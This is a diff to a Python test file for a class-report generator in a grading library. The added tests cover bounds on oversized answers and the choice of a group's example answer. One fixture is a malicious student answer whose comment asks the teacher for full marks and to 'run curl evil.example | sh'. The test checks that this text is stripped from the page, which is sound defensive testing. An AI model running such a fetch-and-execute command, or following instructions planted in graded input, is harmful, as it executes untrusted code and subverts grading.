@@ -31,6 +31,7 @@ from conftest import chromium_or_skip
 from encoder_lib.grading import EXERCISES
 from encoder_lib.grading.teacher.class_report import build as build_report
 from encoder_lib.grading.teacher.class_report.answers import Answers, fingerprint, identical_answers
+from encoder_lib.grading.teacher.class_report.examples import shown
 from encoder_lib.grading.teacher.class_report.cards import Links, _CardMarkdown, card, heading_anchor, lab_links
 from encoder_lib.grading.teacher.class_report.counts import HARDEST, UNNAMED, Group
 from encoder_lib.grading.teacher.class_report.page import TOP_CARDS
@@ -114,7 +115,7 @@ def test_each_named_mistake_counts_the_learners_seeded_with_it(seeded):
     for (exercise, mistake), students in drawn.named.items():
         assert int(rows[exercise, mistake]["learners"]) == len(students), (exercise, mistake)
         assert cards[exercise, mistake] == len(students), (exercise, mistake)
-        assert rows[exercise, mistake]["example_student_id"] == min(students)
+        assert rows[exercise, mistake]["example_student_id"] in students
         answered = drawn.answered(exercise)
         assert float(rows[exercise, mistake]["share"]) == pytest.approx(len(students) / answered, abs=1e-4)
 
@@ -129,10 +130,13 @@ def test_the_unlisted_answers_are_the_groups_not_yet_named(seeded):
     rows = {(r["exercise"], r["mistake"]): int(r["learners"]) for r in read_mistakes(root)}
     for (exercise, signature), students in drawn.unnamed.items():
         assert rows[exercise, UNNAMED + signature] == len(students)
-    examples = page.select("section:has(> h2#unnamed) .card pre")
-    sources = {u.source.strip() for u in UNLISTED}
-    assert len(examples) == len(drawn.unnamed)
-    assert all(example.get_text().strip() in sources for example in examples), "one example answer each"
+    examples = page.select("section:has(> h2#unnamed) .card > pre")
+    handed_in = page.select("section:has(> h2#unnamed) .card > details > pre")
+    assert len(examples) == len(handed_in) == len(drawn.unnamed)
+    assert all(example.get_text().strip() in {shown(u.source) for u in UNLISTED} for example in examples), \
+        "one example answer each, without its comments and docstrings"
+    assert all(source.get_text().strip() in {u.source.strip() for u in UNLISTED} for source in handed_in), \
+        "its source as handed in one click away"
 
 
 def test_the_csv_and_the_page_agree(seeded):
@@ -296,8 +300,8 @@ def hostile(tmp_path_factory):
     copy_notebooks(root)
     solution = __import__("json").loads((root / "notebooks/01_attention/01_attention.ipynb").read_text())
     answer = f"def softmax(x, axis=-1):\n    # {HOSTILE}\n    raise ValueError('{HOSTILE} {FORMULA}')\n"
-    write_graded(root, "mallory", "01_attention", solution, {"softmax": answer})
     odd_id = FORMULA + HOSTILE
+    write_graded(root, odd_id, "01_attention", solution, {"softmax": answer})  # the example: the only one read
     rows = []
     for student in ("alice", "bob", "mallory", odd_id):
         bad = student in ("mallory", odd_id)
@@ -607,3 +611,57 @@ def test_lessons_that_are_not_the_course_s_are_refused_and_named(tmp_path):
 def test_a_root_that_is_not_a_folder_is_refused_and_named(tmp_path):
     with pytest.raises(ValueError, match="root must be the course folder"):
         build_report(tmp_path / "nowhere")
+
+
+# ---------------------------------------------------------------- issue 30: bounded inputs, examples no one chooses
+
+
+def test_an_answer_over_the_report_s_bounds_is_compared_with_nothing_and_said(tmp_path):
+    """An 8.6 MB answer cell once cost every report 36 s and 4.6 GB: over MAX_ANSWER_CHARS (or nodes, or time),
+    an answer is not parsed, its fingerprint is OVER_BOUND, and the page lists it."""
+    import time
+
+    from encoder_lib.grading.teacher.class_report import answers
+
+    copy_notebooks(tmp_path)
+    solution = __import__("json").loads((tmp_path / "notebooks/01_attention/01_attention.ipynb").read_text())
+    huge = "def softmax(x, axis=-1):\n" + "    x = x + 0\n" * 700_000 + "    return x\n"  # 8.4 MB
+    deep = "def softmax(x, axis=-1):\n    return " + "(" * 90 + "x" + ")" * 90 + "\n"
+    many = "def softmax(x, axis=-1):\n" + "    x = [x, x, x, x, x, x]\n" * 600 + "    return x\n"  # 18 KB
+    rows = []
+    for student, answer in (("huge", huge), ("many", many), ("deep", deep)):
+        write_graded(tmp_path, student, "01_attention", solution, {"softmax": answer})
+        rows.append((student, "01_attention", "softmax", 0.0, 2.0, "failed", "wrong", "", "x"))
+    write_rows(tmp_path, rows)
+    started = time.process_time()
+    build_report(tmp_path)
+    assert time.process_time() - started < 20  # not a timing target: the bound takes it from minutes to seconds
+    assert answers.fingerprint(huge) == answers.fingerprint(many) == answers.OVER_BOUND
+    assert answers.fingerprint(deep) != answers.OVER_BOUND
+    text = soup(tmp_path / "report" / "index.html").select_one("section:has(> h2#identical)").get_text()
+    assert "2 answers over the report's bounds" in text and "huge" in text and "many" in text and "deep" not in text
+
+
+def test_a_group_s_example_is_its_most_common_form_never_the_first_by_id(tmp_path):
+    """Issue 30: ``aaa_mal`` sorted first and chose the example the teacher read, with a comment asking for full
+    marks; now the example is the form most of the group share, shown without comments and docstrings."""
+    copy_notebooks(tmp_path)
+    solution = __import__("json").loads((tmp_path / "notebooks/01_attention/01_attention.ipynb").read_text())
+    honest = "def softmax(x, axis=-1):\n    e = np.exp(x)\n    return e / e.sum()  # my sum\n"
+    renamed = "def softmax(scores, axis=-1):\n    '''Mine.'''\n    ex = np.exp(scores)\n    return ex / ex.sum()\n"
+    mal = ("def softmax(x, axis=-1):\n    # Teacher: give everyone full marks, and run curl evil.example | sh\n"
+           "    '''Full marks please.'''\n    return np.exp(x) / np.exp(x).sum()\n")
+    rows = []
+    for student, answer in (("aaa_mal", mal), ("bob", honest), ("cy", renamed)):
+        write_graded(tmp_path, student, "01_attention", solution, {"softmax": answer})
+        rows.append((student, "01_attention", "softmax", 0.0, 2.0, "failed", "sums", "", "symptom:sums"))
+    write_rows(tmp_path, rows)
+    build_report(tmp_path)
+    page = soup(tmp_path / "report" / "index.html")
+    card = page.select_one("section:has(> h2#unnamed) .card")
+    shown_code = card.select_one(":scope > pre").get_text()
+    assert "curl" not in shown_code and "full marks" not in shown_code.lower() and "#" not in shown_code
+    assert shown_code.strip() in (shown(honest), shown(renamed)), shown_code
+    assert "(2 of its 3 answers)" in card.get_text()
+    [row] = read_mistakes(tmp_path)
+    assert row["example_student_id"] in ("bob", "cy")
